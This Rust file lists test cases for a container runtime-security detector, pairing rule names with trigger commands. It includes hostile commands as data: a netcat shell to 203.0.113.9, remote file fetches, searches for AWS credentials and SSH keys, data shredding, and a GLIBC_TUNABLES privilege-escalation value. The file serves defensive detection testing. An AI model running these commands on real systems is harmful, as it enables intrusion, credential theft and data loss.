//! Programs that are executed: by their name, their arguments, their place or their parent.

use crate::row::Effect::{Exists, Gone, Mounted, Prints};
use crate::row::{Place, Row, row};

pub(super) const ROWS: &[Row] = &[
    row(
        "db-program-spawned-process",
        &["mysqld", "run", "ls", "/srv"],
    )
    .upstream("DB program spawned process", "DbProgramSpawnedProcess")
    .by("ls", "mysqld")
    .effects(&[Prints("data.txt")]),
    row(
        "debugfs-launched-in-privileged-container",
        &["debugfs", "-V"],
    )
    .upstream(
        "Debugfs Launched in Privileged Container",
        "DebugfsLaunchedInPrivilegedContainer",
    )
    .at(Place::Debian)
    .effects(&[Prints("debugfs 1.")]),
    row(
        "decoding-payload-in-container",
        &["sh", "-c", "echo YXR0YWNrCg== | /bin/base64 -d"],
    )
    .suite("Payload Decoded in Container", "DecodingPayloadInContainer")
    .by("base64", "sh")
    .effects(&[Prints("attack")]),
    row(
        "detect-crypto-miners-using-the-stratum-protocol",
        &["echo", "-o", "stratum+tcp://example.com:3333", "-u", "x"],
    )
    .suite(
        "Miner's Protocol on a Command Line",
        "DetectCryptoMinersUsingTheStratumProtocol",
    )
    .effects(&[Prints("stratum+tcp")]),
    row(
        "drop-and-execute-new-binary-in-container",
        &["attack", "drop", "/bin/dropped", "hello"],
    )
    .upstream(
        "Drop and execute new binary in container",
        "DropAndExecuteNewBinaryInContainer",
    )
    .by("dropped", "attack")
    .effects(&[Prints("hello from /bin/dropped")])
    .fields(&[("proc.exepath", "/bin/dropped")]),
    row("execution-from-dev-shm", &["sh", "-c", "/dev/shm/payload"])
        .upstream("Execution from /dev/shm", "ExecutionFromDevShm")
        .effects(&[Prints("executed from /dev/shm")]),
    row(
        "fileless-execution-via-memfd-create",
        &["attack", "memfd", "path"],
    )
    .upstream(
        "Fileless execution via memfd_create",
        "FilelessExecutionViaMemfdCreate",
    )
    .by("100", "attack")
    .effects(&[Prints("hello from payload")])
    .fields(&[("proc.exepath", "memfd:payload")]),
    row(
        "find-aws-credentials",
        &["find", "/root", "-path", "*/.aws/credentials"],
    )
    .upstream("Find AWS Credentials", "FindAwsCredentials")
    .effects(&[Prints("/root/.aws/credentials")]),
    row("kubernetes-client-tool-launched-in-container", &["kubectl"])
        .suite(
            "Kubernetes Client in Container",
            "KubernetesClientToolLaunchedInContainer",
        )
        .effects(&[Prints("hello from kubectl")]),
    row(
        "launch-ingress-remote-file-copy-tools-in-container",
        &["wget", "-q", "-O", "/srv/got", "http://203.0.113.9/"],
    )
    .upstream(
        "Launch Ingress Remote File Copy Tools in Container",
        "LaunchIngressRemoteFileCopyToolsInContainer",
    )
    .effects(&[crate::row::Effect::Holds("/srv/got", "attacks")]),
    row(
        "launch-package-management-process-in-container",
        &["apt-get", "--version"],
    )
    .upstream(
        "Launch Package Management Process in Container",
        "LaunchPackageManagementProcessInContainer",
    )
    .at(Place::Debian)
    .effects(&[Prints("apt 2.")]),
    row("launch-remote-file-copy-tools-in-container", &["scp"])
        .upstream(
            "Launch Remote File Copy Tools in Container",
            "LaunchRemoteFileCopyToolsInContainer",
        )
        .at(Place::Debian)
        .exits(1)
        .effects(&[Prints("usage: scp")]),
    row(
        "launch-suspicious-network-tool-in-container",
        &["nmap", "-n", "-sn", "203.0.113.9"],
    )
    .upstream(
        "Launch Suspicious Network Tool in Container",
        "LaunchSuspiciousNetworkToolInContainer",
    )
    .at(Place::Debian)
    .effects(&[Prints("1 host up")]),
    row("launch-suspicious-network-tool-on-host", &["nmap"])
        .upstream(
            "Launch Suspicious Network Tool on Host",
            "LaunchSuspiciousNetworkToolOnHost",
        )
        .at(Place::Host)
        .effects(&[Prints("hello from nmap")]),
    row(
        "mount-launched-in-privileged-container",
        &["mount", "-t", "tmpfs", "-o", "size=1m", "attack", "/mnt"],
    )
    .upstream(
        "Mount Launched in Privileged Container",
        "MountLaunchedInPrivilegedContainer",
    )
    .at(Place::Privileged)
    .effects(&[Mounted("/mnt")]),
    row(
        "netcat-remote-code-execution-in-container",
        &["nc", "203.0.113.9", "22", "-e", "/bin/sh"],
    )
    .upstream(
        "Netcat Remote Code Execution in Container",
        "NetcatRemoteCodeExecutionInContainer",
    )
    .effects(&[Exists("/srv/taken")]),
    row(
        "polkit-local-privilege-escalation-vulnerability",
        &["pkexec"],
    )
    .suite(
        "pkexec Without Arguments",
        "PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034",
    )
    .as_daemon()
    .effects(&[Prints("hello from pkexec")]),
    row(
        "potential-local-privilege-escalation-via-environment-variables-misuse",
        &["sh", "-c", "id"],
    )
    .upstream(
        "Potential Local Privilege Escalation via Environment Variables Misuse",
        "PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse",
    )
    .env(&[(
        "GLIBC_TUNABLES",
        "glibc.malloc.mxfast=glibc.malloc.mxfast=A",
    )])
    .effects(&[Prints("uid=0")])
    .fields(&[("proc.env", "*GLIBC_TUNABLES=*")]),
    row(
        "program-run-with-disallowed-http-proxy-env",
        &["wget", "-q", "-O", "-", "http://example.com/"],
    )
    .upstream(
        "Program run with disallowed http proxy env",
        "ProgramRunWithDisallowedHttpProxyEnv",
    )
    .env(&[("http_proxy", "http://203.0.113.9:80")])
    .effects(&[Prints("attacks")]),
    row(
        "remove-bulk-data-from-disk",
        &["shred", "-u", "/srv/records"],
    )
    .upstream("Remove Bulk Data from Disk", "RemoveBulkDataFromDisk")
    .effects(&[Gone("/srv/records")]),
    row("run-shell-untrusted", &["httpd", "run", "sh", "-c", "id"])
        .upstream("Run shell untrusted", "RunShellUntrusted")
        .by("sh", "httpd")
        .effects(&[Prints("uid=0")]),
    row("schedule-cron-jobs", &["crontab", "-l"])
        .upstream("Schedule Cron Jobs", "ScheduleCronJobs")
        .at(Place::Debian)
        .effects(&[Prints("/srv/payload")]),
    row(
        "search-private-keys-or-passwords",
        &["find", "/root", "-maxdepth", "2", "-iname", "id_rsa"],
    )
    .upstream(
        "Search Private Keys or Passwords",
        "SearchPrivateKeysOrPasswords",
    )
    .effects(&[Prints("/root/.ssh/id_rsa")]),
    row(
        "sudo-potential-privilege-escalation",
        &["sudoedit", "-u", "daemon", "-s", "ls\\"],
    )
    .suite(
        "sudoedit With a Trailing Backslash",
        "SudoPotentialPrivilegeEscalation",
    )
    .at(Place::Debian)
    .as_daemon()
    .acts_as("root")
    .exits(1)
    .effects(&[Prints("usage: sudoedit")])
    .note("sudoedit is setuid: the alert names root"),
    row("system-user-interactive", &["login"])
        .upstream("System user interactive", "SystemUserInteractive")
        .as_daemon()
        .effects(&[Prints("hello from login")]),
    row("user-mgmt-binaries", &["vipw", "run", "ls", "/"])
        .upstream("User mgmt binaries", "UserMgmtBinaries")
        .at(Place::Host)
        .effects(&[Prints("etc")]),
    row("terminal-shell-in-container", &["sh", "-c", "tty"])
        .upstream("Terminal shell in container", "")
        .at(Place::Own(&["--tty"]))
        .below_engine()
        .effects(&[Prints("/dev/pts/0")]),
    row("launch-privileged-container", &["attack", "hello"])
        .upstream("Launch Privileged Container", "")
        .at(Place::Own(&["--privileged"]))
        .below_engine()
        .effects(&[Prints("hello from attack")]),
    row("launch-excessively-capable-container", &["attack", "hello"])
        .upstream("Launch Excessively Capable Container", "")
        .at(Place::Own(&["--cap-add=SYS_ADMIN"]))
        .below_engine()
        .effects(&[Prints("hello from attack")])
        .fields(&[("thread.cap_permitted", "*CAP_SYS_ADMIN*")]),
];
